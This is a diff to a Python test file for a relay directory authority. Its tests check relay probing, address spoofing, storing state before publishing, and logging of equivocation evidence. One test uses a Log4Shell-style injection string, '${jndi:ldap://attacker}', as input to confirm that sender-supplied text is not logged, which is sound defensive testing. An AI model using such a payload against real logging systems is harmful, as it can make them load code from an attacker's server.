@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import os
-from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -11,45 +11,62 @@ import trio
 from structlog.testing import capture_logs
 from trio.testing import MockClock
 
-from onionpath.crypto.identity import IdentityKey
+from onionpath.crypto.identity import IdentityKey, RelayId
 from onionpath.directory.address import Address
 from onionpath.directory.descriptor import Descriptor, sign_descriptor
 from onionpath.directory.trust import Authority as Signer
 from onionpath.directory.trust import TrustRoot
-from onionpath.errors import KeyFileError, MalformedError, OnionPathError, RefusedError
+from onionpath.errors import MalformedError, OnionPathError, RefusedError
 from onionpath.link.tls import client_context
 from onionpath.service.directory import DirectoryService
 from relay.authority import running
+from relay.authority.agreement import Actions, Agreement
+from relay.authority.authority_files import AuthorityFiles
+from relay.authority.bulletin import decode_bulletin
+from relay.authority.enrolment import Enrolment
+from relay.authority.equivocation import Equivocation
+from relay.authority.office import Office
 from relay.authority.probing import Prober
+from relay.authority.publishing import Publishing
 from relay.authority.running import RunningAuthority, reason_of
-from relay.authority.signing import Authority
 from relay.key_keeper import ROTATION_RETRY_S, KeyKeeper
 from relay.keys import KeySchedule, PacketKeyFiles
-from tests.relay.nodes import NETWORK_ID, PARAMETERS, PERIOD_S, Node, clock, until
+from tests.relay.nodes import NETWORK_ID, PARAMETERS, Node, clock, until
 
 IDENTITY = IdentityKey(bytes(range(1, 33)))
 ROOT = TrustRoot(
-    NETWORK_ID, "test", (Signer(IDENTITY.public, Address("127.9.0.1", 9), bytes(32)),), 1, PARAMETERS
+    NETWORK_ID,
+    "test",
+    (Signer(IDENTITY.public, Address("127.9.0.1", 9), bytes(32)),),
+    1,
+    # With openings of recovery each second.
+    replace(PARAMETERS, period_s=60),
 )
 
 
 class Published:
     """A running authority, and the directory that it hands out."""
 
-    def __init__(self, *, relays: int, store: Callable[[bytes], None] = lambda state: None) -> None:
-        authority = Authority(
-            identity=IDENTITY,
-            root=ROOT,
-            parameters=PARAMETERS,
-            period_s=PERIOD_S,
-            first_document_relays=relays,
-            private_addresses=True,
-            probes=True,
-        )
-        prober = Prober(authority, PARAMETERS.geometry, context=client_context(), clock=clock)
-        self.authority = authority
-        self.running = RunningAuthority(authority, prober, store=store, clock=clock)
+    def __init__(self, folder: Path, *, relays: int) -> None:
+        folder.mkdir(mode=0o700)
+        self.folder = folder
+        agreement = Agreement(identity=IDENTITY, root=ROOT, entropy=os.urandom)
+        self.enrolment = Enrolment(ROOT, private_addresses=True)
         self.directory = DirectoryService()
+        self.publishing = Publishing()
+        self.running = RunningAuthority(
+            Office(agreement, self.enrolment, first_document_relays=relays),
+            self.publishing,
+            self.directory,
+            prober=Prober(self.enrolment, PARAMETERS.geometry, context=client_context(), clock=clock),
+            files=AuthorityFiles(folder),
+            clock=clock,
+        )
+
+    @property
+    def listed(self) -> list[RelayId]:
+        """The relays of what is handed out."""
+        return list(self.publishing.directory.relays) if self.publishing.directory else []
 
     def collect(self, node: Node, descriptor: Descriptor | None = None) -> None:
         self.running.collect(sign_descriptor(descriptor or node.describe(), node.identity))
@@ -59,70 +76,78 @@ async def test_a_relay_that_answers_is_listed_and_one_that_does_not_is_forgotten
     """Relays that don't exist would otherwise be on everybody's paths."""
     here, gone = Node(tmp_path / "here"), Node(tmp_path / "gone")
     gone.close()
-    published = Published(relays=1)
+    published = Published(tmp_path / "authority", relays=1)
     async with trio.open_nursery() as nursery:
         await nursery.start(here.serve)
-        nursery.start_soon(published.running.run, published.directory)
+        nursery.start_soon(published.running.run)
         published.collect(gone)
         published.collect(here)
         await until(lambda: published.directory.publication)
-        await until(lambda: len(published.authority._roll) == 1)
+        await until(lambda: len(published.enrolment) == 1)
         nursery.cancel_scope.cancel()
 
-    assert published.authority.directory is not None
-    assert [here.relay_id] == list(published.authority.directory.relays)
+    assert [here.relay_id] == published.listed
 
 
 async def test_a_relay_whose_address_is_somebody_elses_is_not_listed(tmp_path: Path) -> None:
     honest, liar = Node(tmp_path / "honest"), Node(tmp_path / "liar")
     liar.close()
     liar.port = honest.port
-    published = Published(relays=1)
+    published = Published(tmp_path / "authority", relays=1)
     async with trio.open_nursery() as nursery:
         await nursery.start(honest.serve)
-        nursery.start_soon(published.running.run, published.directory)
+        nursery.start_soon(published.running.run)
         published.collect(liar)
-        await until(lambda: len(published.authority._roll) == 0)
+        await until(lambda: len(published.enrolment) == 0)
         # And its place is free for whoever really is there.
         published.collect(honest)
         await until(lambda: published.directory.publication)
         nursery.cancel_scope.cancel()
 
-    assert published.authority.directory is not None
-    assert [honest.relay_id] == list(published.authority.directory.relays)
+    assert [honest.relay_id] == published.listed
 
 
-async def test_no_document_is_published_before_it_is_stored(
+async def test_no_vote_is_shown_and_no_document_published_before_it_is_stored(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Otherwise a restart after a full disk signs another document of the same number."""
-    node, refusals = Node(tmp_path / "node"), 0
-    full = True
-
-    def store(state: bytes) -> None:
-        nonlocal refusals
-        if full:
-            refusals += 1
-            raise KeyFileError("signer: no space left", file="signer")
-
+    """Otherwise a restart after a full disk votes or signs a second time."""
+    node = Node(tmp_path / "node")
     monkeypatch.setattr(running, "STORE_RETRY_S", 0.01)
-    published = Published(relays=1, store=store)
+    published = Published(tmp_path / "authority", relays=1)
+    # In the way of the new diary, as a full disk is, and also for a test that runs as root.
+    obstacle = published.folder / ".diary.new"
+    obstacle.mkdir()
     with capture_logs() as logs:
         async with trio.open_nursery() as nursery:
             await nursery.start(node.serve)
-            nursery.start_soon(published.running.run, published.directory)
+            nursery.start_soon(published.running.run)
             published.collect(node)
-            await until(lambda: refusals > 2)
-            assert published.directory.publication is None
-            full = False
+            await until(lambda: 2 < len([line for line in logs if line["event"] == "state_not_stored"]))
+            assert () == decode_bulletin(published.running.office.agreement.bulletin()).votes
+            obstacle.rmdir()
             await until(lambda: published.directory.publication)
             nursery.cancel_scope.cancel()
 
-    assert {"document_not_stored", "document_signed"} <= {line["event"] for line in logs}
+    assert {"document_agreed", "document_published"} <= {line["event"] for line in logs}
 
 
-def test_what_a_sender_wrote_is_not_logged() -> None:
-    published, secret = Published(relays=1), "log4j ${jndi:ldap://attacker}"
+async def test_evidence_is_kept_in_files_and_logged(tmp_path: Path) -> None:
+    published = Published(tmp_path / "authority", relays=1)
+    pair = Equivocation("application/test", b"one", b"other")
+    with capture_logs() as logs:
+        async with trio.open_nursery() as nursery:
+            nursery.start_soon(published.running.run)
+            for _ in range(2):
+                published.running.carry_out(Actions(evidence=(pair,)))
+            await until(lambda: AuthorityFiles(published.folder).evidence())
+            nursery.cancel_scope.cancel()
+
+    assert "authority_equivocated" in {line["event"] for line in logs}
+    assert 1 == len(AuthorityFiles(published.folder).evidence())
+
+
+def test_what_a_sender_wrote_is_not_logged(tmp_path: Path) -> None:
+    published, secret = Published(tmp_path / "authority", relays=1), "log4j ${jndi:ldap://attacker}"
     with capture_logs() as logs, pytest.raises(OnionPathError):
         published.running.collect(secret.encode())
 
